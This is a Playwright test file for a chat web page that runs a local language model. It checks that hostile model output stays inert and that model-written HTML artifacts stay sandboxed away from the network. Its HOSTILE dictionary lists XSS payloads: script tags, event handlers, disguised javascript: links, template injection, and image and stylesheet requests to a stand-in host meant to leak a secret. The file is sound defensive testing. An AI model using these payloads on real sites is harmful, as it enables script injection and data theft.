"""What a model writes may be hostile: on the page it is inert, and in an artifact it reaches nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, expect
from server.page.actions import say, wait_for_answers
from server.page.conftest import Visit
from server.page.escapes import ESCAPES, NAVIGATIONS, SILENCE, Listener
from server.page.scripted_server import Wire

from glm_gguf.server.page.files import page_files
from glm_gguf.server.page.policies import ARTIFACT

HOSTILE = {
    "script": "<script>window.owned = 1</script>",
    "handler": '<img src="x" onerror="window.owned = 1">',
    "svg handler": '<svg onload="window.owned = 1"><script>window.owned = 1</script></svg>',
    "iframe": '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
    "style": "<style>body { display: none }</style><link rel=stylesheet href=//evil.invalid/x.css>",
    "form": '<form action="https://evil.invalid"><input name=q></form><base href="https://evil.invalid/">',
    "javascript link": "[click](javascript:window.owned=1) <javascript:window.owned=1>",
    "spelled link": "[a](&#106;avascript:window.owned=1) [b](java%0ascript:owned=1) [c](\\x01javascript:owned=1)",
    "data link": "[click](data:text/html,<script>opener.owned=1</script>)",
    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//evil.invalid/) [e](/v1/models)",
    "title": '[x](https://example.invalid "\\" onmouseover=\\"window.owned=1")',
    "remote image": "![a](https://evil.invalid/leak?q=secret) ![b](//evil.invalid/x) ![c][r]\n\n[r]: http://evil.invalid/r",
    "svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Im93bmVkPTEiLz4=)",
    "fence": '```"><script>window.owned=1</script>\ncode\n```',
    "html fence": "```html\n<script>window.owned = 1</script>\n```",
    "formula": "$\\href{javascript:window.owned=1}{x}$ $\\includegraphics{https://evil.invalid/x.png}$ $\\class{x}{y}$",
    "formula bomb": "$\\def\\a{\\a\\a}\\a$",
    "template": "{{constructor.constructor('window.owned=1')()}} ${window.owned=1}",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_is_inert(page: Page, wire: Wire, text: str) -> None:
    wire.answer().say(content=text[: len(text) // 2]).say(content=text[len(text) // 2 :]).finish()
    say(page, "Hello")
    message = wait_for_answers(page, 1)
    for link in message.locator("a").all():
        assert link.get_attribute("href").startswith(("https://", "http://"))  # type: ignore[union-attr]
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    for dead in message.locator(".dead-link").all():
        dead.click()
    assert (
        message.locator("script, iframe, style, link, form, base, input, object, embed, [onerror], [onload]").count()
        == 0
    )
    assert page.evaluate("window.owned") is None
    assert page.locator("#draft").is_visible()


def test_hostile_text_is_inert_everywhere_else(page: Page, wire: Wire) -> None:
    evil = "<img src=x onerror='window.owned=1'>"
    wire.answer().say(reasoning_content=evil).call(0, evil, json.dumps({"a": evil})).finish("tool_calls")
    say(page, evil)
    message = wait_for_answers(page, 1)
    message.locator(".thought summary").click()
    message.locator("form textarea").fill(evil)
    wire.answer().say(content="Done").finish()
    message.get_by_role("button", name="Send result").click()
    wait_for_answers(page, 2)
    assert page.locator("#messages img, #title img, #conversations img").count() == 0
    assert page.locator("body").inner_text().count("onerror") >= 5
    assert page.evaluate("window.owned") is None


def test_a_picture_in_the_text_itself_is_shown(page: Page, wire: Wire) -> None:
    dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    wire.answer().say(content=f"![dot](data:image/png;base64,{dot})").finish()
    say(page, "Hello")
    assert (
        wait_for_answers(page, 1).locator("img").evaluate("image => image.decode().then(() => image.naturalWidth)") == 1
    )


def test_a_huge_table_is_cut_and_the_page_stays_alive(page: Page, wire: Wire) -> None:
    rows = "".join(f"| {row} |" + " x |" * 9 + "\n" for row in range(20_000))
    wire.answer().say(content=f"|{'a|' * 10}\n|{'-|' * 10}\n{rows}").finish()
    say(page, "Hello")
    message = wait_for_answers(page, 1)
    expect(message.locator(".left-out")).to_contain_text("more rows are not shown")
    assert message.locator("td").count() < 6000
    page.locator("#draft").fill("Still here")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(">" * 5000, id="quotes"),
        pytest.param("- " * 2000 + "x", id="lists"),
        pytest.param("[" * 20_000, id="brackets"),
        pytest.param("*a_" * 10_000, id="emphasis"),
        pytest.param("`" * 9999 + " " + "$" * 9999, id="ticks"),
        pytest.param("a" * 300_000, id="one word"),
        pytest.param(f"${'{' * 20_000}x{'}' * 20_000}$", id="a deep formula"),
        pytest.param("$$" + "\\frac1{" * 200 + "x" + "}" * 200 + "$$", id="a formula of fractions"),
        pytest.param("$$" + "\\sqrt{" * 3000 + "x" + "}" * 3000 + "$$", id="a formula of roots"),
        pytest.param("```js\n" + "`${" * 9000 + "\n```", id="deep code"),
        pytest.param("\u202e\u0000\ufffd\ud7ff" + "\u0301" * 5000, id="odd characters"),
    ],
)
def test_text_that_is_hard_to_read_is_shown_in_time(page: Page, wire: Wire, text: str) -> None:
    page.evaluate("() => import('./page/markdown/math.js').then(({ formula }) => void formula('x', false))")
    wire.answer().say(content=f"{text}\n\nThe end.").finish()
    say(page, "Hello")
    assert wait_for_answers(page, 1).inner_text().strip()
    expect(page.locator("#draft")).to_be_editable()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


ALIVE = (
    "<!doctype html><title>Escape</title><p>alive<script>document.querySelector('p').textContent = 'running'</script>"
)


SHOW = "code => document.dispatchEvent(new CustomEvent('artifact', { detail: { code, kind: 'html' } }))"


def shown_artifact(page: Page, wire: Wire, html: str) -> Frame:
    """Have a page written by the model shown beside its answer, and wait until it runs."""
    wire.answer().say(content=f"Here:\n\n```html\n{html}\n```\n").finish()
    say(page, "A page")
    wait_for_answers(page, 1).get_by_role("button", name="Show page").click()
    expect(page.locator("#artifact h2")).to_have_text("Escape")
    frame = page.locator("#artifact iframe").element_handle().content_frame()
    assert frame is not None
    return frame


def test_an_artifact_runs_in_a_sandbox(visit: Visit, wire: Wire) -> None:
    page = visit.page()
    frame = shown_artifact(page, wire, ALIVE)
    expect(page.frame_locator("#artifact iframe").locator("p")).to_have_text("running")
    assert frame.evaluate("self.origin") == "null"
    assert page.locator("#artifact iframe").get_attribute("sandbox") == "allow-scripts"
    page.get_by_role("button", name="Close artifact").click()
    assert page.locator("iframe").count() == 0
    expect(page.get_by_role("button", name="Show page")).to_be_focused()


def test_an_artifact_that_is_hidden_runs_no_more(visit: Visit, wire: Wire) -> None:
    page = visit.page()
    shown_artifact(page, wire, ALIVE)
    page.keyboard.press("Control+.")
    expect(page.locator("#panel")).to_be_visible()
    assert page.locator("iframe").count() == 0


BEGUN = "performance.getEntriesByType('resource').some(({ name }) => name.endsWith('/openapi.json'))"
"""The page has asked for the last thing that it asks for by itself."""
SETTLED = "new Promise(done => requestIdleCallback(() => setTimeout(done, 150)))"
"""Time for what was tried to arrive: that something never comes can only be waited for."""


def escaped(visit: Visit, page: Page, listener: Listener, escapes: dict[str, str]) -> dict[str, tuple[Any, ...]]:
    """What came out of artifacts that tried: their names, with what was heard, asked of the server, and titled."""
    own = [f"{visit.address}/page/artifact.html"]
    found: dict[str, tuple[Any, ...]] = {}
    page.wait_for_function(BEGUN)
    for name, escape in escapes.items():
        visit.asked.clear()
        page.evaluate(SHOW, ALIVE + escape.replace("$", f"http://127.0.0.1:{listener.port}"))
        page.evaluate(SETTLED)
        sent = [url for url in visit.asked if url.startswith(visit.address)]
        if listener.heard or sent != own or len(visit.context.pages) != 1 or page.title() != "glm-gguf":
            found[name] = (list(listener.heard), sent, page.title())
            listener.heard.clear()
    return found


def test_an_artifact_reaches_neither_the_network_nor_its_parent(own_visit: Visit, listener: Listener) -> None:
    own_visit.tolerated.append("")  # the browser says what it refuses
    page = own_visit.page()
    assert escaped(own_visit, page, listener, ESCAPES) == {}
    assert page.url == f"{own_visit.address}/"
    assert page.locator("#draft").is_visible()


def test_an_artifact_that_goes_elsewhere_sends_nothing(own_visit: Visit, listener: Listener) -> None:
    own_visit.tolerated.append("")
    page = own_visit.page()
    for name, (heard, *_) in escaped(own_visit, page, listener, NAVIGATIONS).items():
        assert set(heard) <= {SILENCE}, name
    page.wait_for_timeout(1500)  # as long as the listener waits for what is sent
    assert set(listener.heard) <= {SILENCE}
    assert (len(own_visit.context.pages), page.url, page.title()) == (1, f"{own_visit.address}/", "glm-gguf")


def without_connection_allowlist(page: Page) -> None:
    """Serve artifacts as browsers see them that do not know this header, which is young."""
    frame = page_files()["artifact.html"]
    headers = {name: value for name, value in ARTIFACT.items() if name != "Connection-Allowlist"}
    page.route(
        "**/page/artifact.html",
        lambda route: route.fulfill(body=frame.body, content_type=frame.media_type, headers=headers),
    )


def test_no_window_inside_an_artifact_has_webrtc_again(own_visit: Visit, listener: Listener) -> None:
    own_visit.tolerated.append("")
    page = own_visit.page()
    without_connection_allowlist(page)
    escapes = {name: escape for name, escape in ESCAPES.items() if "RTCPeerConnection" in escape}
    assert escaped(own_visit, page, listener, escapes) == {}


def test_only_the_page_around_it_fills_the_frame(visit: Visit) -> None:
    window = visit.context.new_page()
    window.goto(f"{visit.address}/page/artifact.html")
    window.evaluate("postMessage('<title>Taken</title>', '*')")
    window.evaluate(SETTLED)
    assert window.title() == "Artifact"


@pytest.mark.parametrize("escape", ["fetch", "style"])
def test_without_policies_the_same_would_be_heard(own_visit: Visit, listener: Listener, escape: str) -> None:
    own_visit.tolerated.append("ERR_")
    own_visit.confined = False
    page = own_visit.page()
    frame = page_files()["artifact.html"]
    page.route("**/page/artifact.html", lambda route: route.fulfill(body=frame.body, content_type=frame.media_type))
    page.evaluate(SHOW, ALIVE + ESCAPES[escape].replace("$", f"http://127.0.0.1:{listener.port}"))
    # Playwright answers the route in this thread, which must not wait for the listener before that.
    expect(page.frame_locator("#artifact iframe").locator("p")).to_have_text("running")
    assert listener.hear().startswith(b"GET /x")


def test_a_drawing_is_shown_as_one(page: Page, wire: Wire) -> None:
    svg = '<?xml version="1.0"?>\n<svg viewBox="0 0 9 9"><title>Dot</title><circle r="4"/></svg>'
    wire.answer().say(content=f"```xml\n{svg}\n```").finish()
    say(page, "A dot")
    wait_for_answers(page, 1).get_by_role("button", name="Show image").click()
    expect(page.locator("#artifact h2")).to_have_text("Dot")
    expect(page.frame_locator("#artifact iframe").locator("svg circle")).to_have_count(1)
